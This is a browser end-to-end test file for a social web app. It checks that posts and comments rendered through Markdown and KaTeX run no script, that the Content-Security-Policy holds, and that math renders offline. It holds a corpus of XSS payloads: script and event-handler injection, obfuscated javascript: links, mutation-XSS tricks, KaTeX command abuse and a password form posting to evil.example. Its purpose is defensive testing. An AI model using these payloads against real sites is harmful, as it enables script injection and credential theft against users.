/**
 * Rich content in Chromium, against the built app and the real server:
 *
 * - a corpus of hostile posts (and a hostile comment), written through the API by a logged-in
 *   user, shown expanded in the feed, on the detail page with its comments and on the poster:
 *   a page flag any payload would set stays false, no dialog opens, the page's style is
 *   untouched, and a `securitypolicyviolation` listener installed before the app loads records
 *   nothing (the page is served with its Content-Security-Policy, online and from the worker);
 * - the renderer and KaTeX are not part of a first visit to /home;
 * - a post whose text and comments have nothing of Markdown in them comes in the page's HTML as
 *   the renderer would write it, and loads no renderer;
 * - a post with `$E=mc^2$` renders KaTeX with the network cut, after one online visit installed
 *   the service worker (KaTeX's code, stylesheet and woff2 fonts come from the precache).
 *
 * Needs `npm run build` first and Chromium at /usr/bin/chromium.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { api } from '../../src/shared/api.ts';
import type { Post } from '../../src/shared/schemas.ts';
import { renderInertText } from '../../src/client/ui/rich-text/inert.ts';
import { allFeedPosts, callApi, PROJECT_ROOT } from './support/app.ts';
import { useApp, useBrowser, withBrowser } from './support/fixtures.ts';
import { callAs, expectUntouched, logInByApi, report, watchPage } from './support/hostile.ts';

const PHONE = '13900000088';
/** Pads a post past the cut (150 length units), so the feed offers 展开. */
const FILLER = `\n\n${'这是一段用来撑长正文的文字，'.repeat(12)}`;

/** Each group is one post; every payload would set window.__pwned (or call alert) if it ran. */
const HOSTILE_POSTS: string[][] = [
  [
    '<script>window.__pwned = true</script>',
    '<img src=x onerror="window.__pwned = true">',
    '<svg onload="window.__pwned = true"><script>window.__pwned = true</script></svg>',
    '<svg><a xlink:href="javascript:window.__pwned=true"><text y="20">svg link</text></a></svg>',
    '<iframe srcdoc="<script>parent.__pwned = true</script>"></iframe>',
    '<object data="javascript:window.__pwned=true"></object><embed src="javascript:window.__pwned=true">',
  ],
  [
    '<a href="javascript:window.__pwned=true">html link</a>',
    '<a href="java&#115;cript:window.__pwned=true">entity link</a>',
    '<a href="JaVaScRiPt:window.__pwned=true">case link</a>',
    '[md link](javascript:window.__pwned=true)',
    '[md case](JaVaScRiPt:window.__pwned=true)',
    '[md entity](jav&#x61;script:window.__pwned=true)',
    '[md data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD10cnVlPC9zY3JpcHQ+)',
    '[md ref][evil]\n\n[evil]: javascript:window.__pwned=true',
    '<javascript:window.__pwned=true>',
  ],
  [
    '<style>body { background: rgb(1, 2, 3) !important } #root { display: none }</style>',
    '<div style="position:fixed;inset:0;z-index:9999;background:rgb(1,2,3)">covered</div>',
    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:window.__pwned=true">登录</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=true">',
    '<!-- --><script>window.__pwned = true</script> -->',
    '<!--><img src=x onerror="window.__pwned = true">-->',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned = true">',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=true>">',
  ],
  [
    '$\\href{javascript:window.__pwned=true}{katex href}$',
    '$$\\href{javascript:window.__pwned=true}{katex block href}$$',
    '$\\url{javascript:window.__pwned=true}$ $\\includegraphics{https://evil.example/x.png}$',
    '$\\htmlStyle{position:fixed;inset:0;background:rgb(1,2,3)}{x}$ $\\htmlClass{modal}{y}$ $\\htmlData{pwned=1}{z}$',
    '$\\color{red;background:url(javascript:alert(1))}{x}$ $\\def\\a{\\a\\a}\\a$',
    '```html\n<script>window.__pwned = true</script>\n```',
    '```"><img src=x onerror=window.__pwned=true>\ncode\n```',
    '![x](javascript:window.__pwned=true) ![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  ],
];

const HOSTILE_COMMENT = '<img src=x onerror="window.__pwned = true"> [c](javascript:window.__pwned=true) $\\href{javascript:window.__pwned=true}{c}$ **粗体评论**';

const MATH_POST = `质能方程 $E=mc^2$ 是物理学中最有名的公式。${FILLER}`;

const app = useApp({ env: { DAILY_POST_LIMIT: '100' } });
let hostile: { id: number; marker: string }[] = [];
let mathPostId: number;

beforeAll(async () => {
  const cookie = await logInByApi(app, PHONE);
  const channelId = (await callApi(app, api.channelPosts, { tab: 'all', size: 1 })).list[0]!.channels[0]!.channel_id;
  let n = 0;
  const write = (content: string) =>
    callAs<Post>(app, cookie, api.postAdd.path, { content, channel_id: [channelId], attach: [], client_id: `rich-content-${Date.now()}-${(n += 1)}` });
  mathPostId = (await write(MATH_POST)).id;
  hostile = [];
  for (const [i, payloads] of HOSTILE_POSTS.entries()) {
    const marker = `恶意样本${i + 1}号`;
    const post = await write(`${marker}\n\n${payloads.join('\n\n')}${FILLER}`);
    hostile.push({ id: post.id, marker });
  }
  await callAs(app, cookie, api.commentAdd.path, { post_id: hostile[0]!.id, content: HOSTILE_COMMENT, client_id: `rich-comment-${Date.now()}` });
});

describe('the build', () => {
  it('precaches the rich-text chunks and every woff2 font KaTeX\'s stylesheet uses', () => {
    const dist = join(PROJECT_ROOT, 'dist/client');
    const sw = readFileSync(join(dist, 'sw.js'), 'utf8');
    const precached = new Set([...sw.matchAll(/"url":"([^"]+)"/g)].map((match) => match[1]!));
    const assets = readdirSync(join(dist, 'assets'));
    const katexCss = assets.filter((name) => /^katex-.*\.css$/.test(name));
    expect(katexCss).toHaveLength(1);
    // url(/assets/x.woff2), url(./x.woff2) or url("x.woff2"): resolved against the stylesheet, as the precache lists it.
    const fonts = [...readFileSync(join(dist, 'assets', katexCss[0]!), 'utf8').matchAll(/url\(([^)]+\.woff2)["']?\)/g)].map(
      (match) => new URL(match[1]!.replace(/^["']/, ''), `https://app.example/assets/${katexCss[0]!}`).pathname.slice(1),
    );
    expect(fonts.length).toBeGreaterThanOrEqual(19);
    for (const font of fonts) expect(precached.has(font), font).toBe(true);
    for (const chunk of [/^RichText-.*\.js$/, /^renderer-.*\.js$/, /^katex-.*\.js$/, /^katex-.*\.css$/]) {
      const file = assets.find((name) => chunk.test(name));
      expect(file, String(chunk)).toBeDefined();
      expect(precached.has(`assets/${file}`), file).toBe(true);
    }
  });
});

describe('hostile posts', () => {
  const browser = useBrowser(app, { viewport: { width: 1280, height: 900 } });
  const { page } = browser;

  beforeAll(async () => {
    await watchPage(page);
  });

  it('run nothing in the feed, expanded: the renderer loads only with the first 展开', async () => {
    const scripts: string[] = [];
    page.on('request', (request) => {
      if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname);
    });
    const response = await page.goto(`${app.url}/home`, { waitUntil: 'networkidle' });
    expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
    for (const { marker } of hostile) await page.locator('main article', { hasText: marker }).waitFor();
    expect(scripts.filter((path) => /\/(?:RichText|renderer|katex)-/.test(path))).toEqual([]);
    // Collapsed, a card shows what was written, as text.
    expect(await page.locator('main article', { hasText: hostile[0]!.marker }).innerText()).toContain('<script>window.__pwned = true</script>');

    for (const { marker } of hostile) {
      const card = page.locator('main article', { hasText: marker });
      await card.getByRole('button', { name: '展开' }).click();
      await card.locator('.rich-text--rendered').waitFor();
    }
    expect(scripts.some((path) => /\/renderer-/.test(path))).toBe(true);
    // The KaTeX payloads rendered as (harmless) formulas.
    expect(await page.locator('main article .katex').count()).toBeGreaterThan(3);
    expectUntouched(await report(page), '/home');
    page.removeAllListeners('request');
  });

  it('run nothing on the detail page, in the post or its comments', async () => {
    for (const { id } of hostile) {
      const response = await page.goto(`${app.url}/message/detail/${id}`);
      expect(response?.headers()['content-security-policy']).toContain("object-src 'none'");
      await page.locator('.post-card--full .rich-text--rendered').waitFor();
      if (id === hostile[0]!.id) {
        const comment = page.locator('.comment__text.rich-text--rendered');
        await comment.waitFor();
        expect(await comment.locator('strong').innerText()).toBe('粗体评论');
        expect(await comment.locator('a').count()).toBe(0);
      }
      expectUntouched(await report(page), `/message/detail/${id}`);
    }
  });

  it('run nothing on the poster', async () => {
    for (const { id, marker } of hostile) {
      await page.goto(`${app.url}/message/detail/poster/${id}`);
      const text = page.locator('.poster__text .rich-text--rendered');
      await text.waitFor();
      expect(await text.innerText()).toContain(marker);
      expectUntouched(await report(page), `/message/detail/poster/${id}`);
    }
    expect(browser.dialogs).toEqual([]);
  });
});

// The text shows as written until the renderer has loaded, then rendered in the same box: a
// paragraph must not grow when it does (the page below it would jump).
describe('the rendered text in place of the plain one', () => {
  it('keeps the height of a paragraph, in the post and in a comment', async () => {
    await withBrowser(app, { viewport: { width: 412, height: 823 } }, async (browser) => {
      const post = (await allFeedPosts(app)).find((candidate) => candidate.comment_count > 0 && !/[\n*_`#$<>[\]]/.test(candidate.content))!;
      await browser.page.goto(`${app.url}/message/detail/${post.id}`);
      await browser.page.locator('.post-card--full .rich-text--rendered').waitFor();
      await browser.page.locator('.comment__text.rich-text--rendered').first().waitFor();
      const heights = await browser.page.evaluate(() =>
        ['.post-card--full .rich-text--rendered', '.comment__text.rich-text--rendered'].map((selector) => {
          const rendered = document.querySelector<HTMLElement>(selector)!;
          const plain = document.createElement('div');
          plain.className = rendered.className.replace('rich-text--rendered', 'rich-text--plain');
          plain.textContent = rendered.textContent!.trim();
          rendered.after(plain);
          const sizes = [rendered.getBoundingClientRect().height, plain.getBoundingClientRect().height];
          plain.remove();
          return sizes;
        }),
      );
      for (const [rendered, plain] of heights) expect(rendered).toBe(plain);
    });
  });
});

describe('a text Markdown has nothing to do with', () => {
  it("is written in the page's HTML as the renderer writes it, and a post whose texts are all such loads no renderer", async () => {
    const candidates = (await allFeedPosts(app)).filter((candidate) => candidate.comment_count > 0 && renderInertText(candidate.content));
    let post: Post | undefined;
    for (const candidate of candidates) {
      const comments = await callApi(app, api.commentList, { post_id: candidate.id, size: 20 });
      if (comments.list.every((comment) => renderInertText(comment.content))) {
        post = candidate;
        break;
      }
    }
    expect(post, 'a demo post whose text and comments are plain sentences').toBeDefined();
    const html = await (await fetch(`${app.url}/message/detail/${post!.id}`)).text();
    expect(html).toContain(`<div class="rich-text post-content__text rich-text--rendered">${renderInertText(post!.content)}</div>`);

    await withBrowser(app, { viewport: { width: 412, height: 823 } }, async (browser) => {
      const scripts: string[] = [];
      browser.page.on('request', (request) => {
        if (request.resourceType() === 'script') scripts.push(new URL(request.url()).pathname);
      });
      await browser.page.goto(`${app.url}/message/detail/${post!.id}`, { waitUntil: 'networkidle' });
      await browser.page.locator('.comment__text.rich-text--rendered').first().waitFor();
      expect(await browser.page.locator('.rich-text--plain').count()).toBe(0);
      expect(scripts.filter((path) => /\/(?:renderer|sanitize)-/.test(path))).toEqual([]);
      expect(await browser.page.locator('.post-card--full .rich-text--rendered').innerHTML()).toBe(renderInertText(post!.content));
    });
  });
});

describe('math offline', () => {
  const browser = useBrowser(app, { viewport: { width: 390, height: 844 } });
  const { page } = browser;

  beforeAll(async () => {
    await watchPage(page);
  });

  it('renders $E=mc^2$ by KaTeX with the network cut, after one online visit', async () => {
    const fetched: string[] = [];
    page.on('request', (request) => fetched.push(new URL(request.url()).pathname));
    // The one online visit: the feed, and the service worker installs with its precache.
    await page.goto(`${app.url}/home`);
    await page.locator('main article', { hasText: '质能方程' }).waitFor();
    await page.evaluate(() => navigator.serviceWorker.ready);
    expect(fetched.filter((path) => /\/(?:RichText|renderer|katex|KaTeX_)/.test(path))).toEqual([]);

    // Leave the app first: the first visit's page is not under the worker yet, and going offline
    // under it makes it load what it shows offline from the network (which then fails).
    await page.goto('about:blank');
    const failed: string[] = [];
    page.on('requestfailed', (request) => failed.push(request.url()));
    await browser.context.setOffline(true);
    try {
      const reload = await page.goto(`${app.url}/home`);
      expect(reload?.fromServiceWorker()).toBe(true);
      expect(reload?.headers()['content-security-policy']).toContain("script-src 'self'");
      const card = page.locator('main article', { hasText: '质能方程' });
      // Collapsed: the formula's source, without its dollars.
      expect(await card.innerText()).toContain('E=mc^2');
      expect(await card.innerText()).not.toContain('$E=mc^2$');
      await card.getByRole('button', { name: '展开' }).click();
      const formula = card.locator('.katex');
      await formula.waitFor();
      expect(await formula.locator('annotation').textContent()).toBe('E=mc^2');
      expect(await formula.locator('.katex-html').isVisible()).toBe(true);
      // KaTeX's fonts came from the precache: loaded, none failed.
      const fonts = await page.evaluate(async () => {
        await document.fonts.ready;
        return [...document.fonts]
          .filter((face) => face.family.replace(/["']/g, '').startsWith('KaTeX_'))
          .map((face) => ({ family: face.family.replace(/["']/g, ''), status: face.status }));
      });
      expect(fonts.filter((face) => face.status === 'loaded').map((face) => face.family)).toContain('KaTeX_Main');
      expect(fonts.filter((face) => face.status === 'error')).toEqual([]);
      expect(failed.filter((url) => new URL(url).pathname.startsWith('/assets/'))).toEqual([]);
      expectUntouched(await report(page), 'offline /home');
    } finally {
      page.removeAllListeners('request');
      page.removeAllListeners('requestfailed');
      await browser.context.setOffline(false);
    }
  });

  it('the same post renders its formula online on the detail page', async () => {
    await page.goto(`${app.url}/message/detail/${mathPostId}`);
    await page.locator('.post-card--full .katex').waitFor();
    expectUntouched(await report(page), `/message/detail/${mathPostId}`);
  });
});
